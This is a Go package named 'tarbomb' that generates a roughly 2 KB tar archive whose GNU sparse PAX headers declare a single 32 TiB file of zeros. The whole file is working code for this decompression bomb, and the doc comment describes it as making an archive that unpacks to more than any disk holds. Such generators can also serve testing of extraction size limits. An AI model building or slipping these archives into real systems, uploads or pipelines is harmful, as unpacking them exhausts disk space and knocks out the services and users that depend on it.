// Package tarbomb makes an archive that unpacks to more than any disk has.
package tarbomb

import (
	"fmt"
	"strings"
)

// Size is that of its file: 32 TiB.
const Size = 1 << 45

// Tar is an archive of 2 KB, a few hundred bytes once it is compressed. Its one file is a hole, which is unpacked as zeros.
func Tar() []byte {
	pax := record("GNU.sparse.major", "1") + record("GNU.sparse.minor", "0") + record("GNU.sparse.name", "file") +
		record("GNU.sparse.realsize", fmt.Sprint(Size))
	var tar strings.Builder
	for _, part := range []string{header("PaxHeaders/file", 'x', len(pax)), pax, header("file", '0', 512), "0\n", strings.Repeat("\x00", 1024)} {
		tar.WriteString(part + strings.Repeat("\x00", (512-len(part)%512)%512))
	}
	return []byte(tar.String())
}

// record is one of a PAX header. It begins with its own length, of two digits here.
func record(key, value string) string {
	rest := " " + key + "=" + value + "\n"
	return fmt.Sprint(len(rest)+2) + rest
}

func header(name string, kind byte, size int) string {
	h := make([]byte, 512)
	copy(h, name)
	copy(h[100:], "0000644\x000000000\x000000000\x00")
	copy(h[124:], fmt.Sprintf("%011o\x0000000000000\x00        %c", size, kind))
	copy(h[257:], "ustar\x0000")
	sum := 0
	for _, b := range h {
		sum += int(b)
	}
	copy(h[148:], fmt.Sprintf("%06o\x00 ", sum))
	return string(h)
}
